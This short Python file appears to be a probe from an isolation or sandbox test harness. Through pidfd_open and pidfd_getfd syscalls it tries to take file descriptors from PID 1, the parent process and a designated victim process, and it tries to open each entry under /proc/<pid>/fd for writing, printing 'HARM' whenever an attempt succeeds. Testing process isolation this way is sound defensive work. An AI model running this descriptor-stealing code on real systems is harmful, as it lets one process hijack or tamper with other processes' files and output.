"""Takes descriptors of other processes: by pidfd_getfd, and by opening what their folder in /proc lists."""

import ctypes
import os


def f(world):
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (1, os.getppid(), world.victim):
        handle = libc.syscall(434, pid, 0)
        if handle >= 0 and libc.syscall(438, handle, 1, 0) >= 0:
            print("HARM took descriptor 1 of", pid)
        if pid == os.getpid():
            continue
        try:
            for name in os.listdir(f"/proc/{pid}/fd"):
                os.open(f"/proc/{pid}/fd/{name}", os.O_WRONLY)
                print("HARM opened", name, "of", pid)
        except OSError:
            continue
